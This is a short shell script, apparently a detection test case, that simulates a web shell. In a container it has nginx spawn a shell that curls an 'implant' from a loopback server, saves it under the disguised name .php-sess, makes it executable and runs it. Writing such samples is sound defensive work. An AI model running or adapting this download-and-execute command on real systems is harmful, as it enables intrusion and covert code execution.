#!/bin/sh
# malicious: a web shell (nginx -> sh -c) downloads a payload with curl -o from a loopback server, makes it executable and runs it
# container
. "$(dirname "$0")/../../lib.sh"
ctr_app nginx "cd /tmp && curl -s -o .php-sess http://127.0.0.1:8080/implant && chmod +x .php-sess && ./.php-sess"
